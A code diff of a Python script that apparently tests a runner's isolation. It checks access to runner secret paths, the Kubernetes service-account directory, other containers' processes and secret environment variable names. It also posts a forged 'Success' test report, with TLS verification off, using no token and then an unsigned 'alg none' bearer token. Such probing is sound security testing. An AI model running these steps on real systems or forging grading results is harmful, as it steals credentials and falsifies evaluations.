@@ -15,9 +15,6 @@ from pathlib import Path
 
 RUNNERS = ("/afresh/git", "/afresh/secrets", "/afresh/token", "/afresh/podinfo", "/afresh/ca")
 ACCOUNT = "/var/run/secrets/kubernetes.io/serviceaccount"
-FORGED = json.dumps(
-    {"version": 1, "final": True, "results": [{"id": "T001", "outcome": "Success"}]}
-)
 
 
 def writable_mounts() -> list[str]:
@@ -71,10 +68,10 @@ def replaced_fifos() -> list[str]:
     return done
 
 
-def answer(url: str, **headers: str) -> int | str:
-    """The HTTP status of a POST of a forged Report, or why there was none."""
+def answer(url: str, text: str, **headers: str) -> int | str:
+    """The HTTP status of a POST, or why there was none."""
     trusting = ssl._create_unverified_context()  # it attacks: it trusts anybody
-    request = urllib.request.Request(url, FORGED.encode(), headers)
+    request = urllib.request.Request(url, text.encode(), headers)
     try:
         with urllib.request.urlopen(request, timeout=10, context=trusting) as response:
             return int(response.status)
@@ -84,7 +81,7 @@ def answer(url: str, **headers: str) -> int | str:
         return str(error)
 
 
-def main(reports: str, api: str) -> None:
+def main(reports: str, forged: str, api: str) -> None:
     """Try everything."""
     tried = {
         "runner's files": readable_files(*RUNNERS),
@@ -93,13 +90,13 @@ def main(reports: str, api: str) -> None:
         "other containers' processes": others_processes(),
         "replaced": replaced_fifos(),
         "secrets in the environment": [
-            name for name in os.environ if any(w in name for w in ("KEY", "TOKEN", "SECRET"))
+            name for name in os.environ if any(w in name for w in ("API_KEY", "TOKEN", "SECRET"))
         ],
-        "report without a token": answer(reports),
+        "report without a token": answer(reports, forged),
         "report with a forged token": answer(
-            reports, Authorization="Bearer eyJhbGciOiJub25lIn0.e30."
+            reports, forged, Authorization="Bearer eyJhbGciOiJub25lIn0.e30."
         ),
-        "API server": answer(api),
+        "API server": answer(api, forged),
     }
     json.dump(tried, sys.stdout, indent=1, sort_keys=True)
 
